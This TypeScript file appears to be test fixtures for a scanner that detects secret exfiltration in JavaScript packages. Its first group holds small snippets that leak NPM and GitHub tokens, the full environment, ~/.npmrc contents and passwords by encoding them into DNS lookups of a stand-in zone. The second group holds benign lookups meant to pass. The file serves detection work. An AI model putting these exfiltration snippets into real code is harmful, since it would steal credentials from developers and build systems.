import type { Sample } from '../contract.ts';
import { at, imported, quiet } from '../samples-kit.ts';

const FILE = 'index.js';

function asked(name: string, code: string, rule = 'secrets', severity: 'high' | 'critical' = 'high'): Sample {
  return {
    name,
    files: imported(code),
    expected: [at(rule, severity, FILE, code.trim().split('\n').length)],
  };
}

/** Secrets that are carried out in names that are looked up: the server of the zone reads them. */
export const lookedUp: readonly Sample[] = [
  asked(
    'a token before a zone',
    `require('dns').lookup(process.env.NPM_TOKEN + '.x.weir.test', () => {});\n`,
  ),
  asked(
    'a token in a template',
    'require("dns").resolve(`${process.env.NPM_TOKEN}.x.weir.test`, () => {});\n',
  ),
  asked(
    'a token in hex',
    `const dns = require('dns');\ndns.resolve4(Buffer.from(process.env.NPM_TOKEN || '').toString('hex') + '.x.weir.test', () => {});\n`,
  ),
  asked(
    'a token through a resolver of its own',
    `const { Resolver } = require('dns');\nnew Resolver().resolveTxt(process.env.GITHUB_TOKEN.concat('.x.weir.test'), () => {});\n`,
  ),
  asked(
    'the environment in labels that are joined',
    `const dns = require('dns');\nconst text = Buffer.from(JSON.stringify(process.env)).toString('hex');\nfor (let i = 0; i < text.length; i += 60) dns.resolveTxt([text.slice(i, i + 60), i, 'x.weir.test'].join('.'), () => {});\n`,
    'environment',
  ),
  asked(
    'what a file of credentials holds, when somebody calls',
    `const fs = require('fs'), os = require('os'), dns = require('dns');\nexports.uptime = () => fs.readFile(\`\${os.homedir()}/.npmrc\`, (e, b) => dns.lookup(\`\${b.toString('hex').slice(0, 60)}.x.weir.test\`, () => {}));\n`,
    'credentials',
  ),
  asked(
    'a password that a function is given',
    `const dns = require('dns');\nexports.login = (user, password) => dns.resolve4(Buffer.from(password).toString('hex') + '.x.weir.test', () => {});\n`,
    'given-secret',
  ),
];

/** Names that a user's settings say. */
export const configured: readonly Sample[] = [
  quiet(
    'a configured host',
    imported(`require('dns').lookup(process.env.DB_HOST || 'localhost', () => {});\n`),
  ),
  quiet(
    'a configured host of a service that signs in',
    imported("require('dns').lookup(`${process.env.AUTH_HOST}.api.weir.test`, () => {});\n"),
  ),
  quiet(
    'the host of a cluster, out of a file that signs in there',
    imported(
      `const fs = require('fs'), os = require('os'), dns = require('dns');\nexports.find = (done) => fs.readFile(\`\${os.homedir()}/.kube/config\`, 'utf8', (e, text) => dns.lookup(text.match(/server: (.*)/)[1], done));\n`,
    ),
  ),
  quiet(
    'a service record of a configured host',
    imported(`require('dns').resolveSrv('_mongodb._tcp.' + process.env.MONGO_HOST, () => {});\n`),
  ),
  quiet(
    'a service of a cluster, asked with a token',
    imported(
      `require('dns').lookup(process.env.SERVICE_NAME + '.svc.cluster.local', () => {});\nfetch('https://api.weir.test/', { headers: { authorization: process.env.API_TOKEN } }).then((answer) => answer.json());\n`,
    ),
  ),
  quiet(
    'a region of a service',
    imported("require('dns').resolve4(`${process.env.AWS_REGION}.api.weir.test`, () => {});\n"),
  ),
];
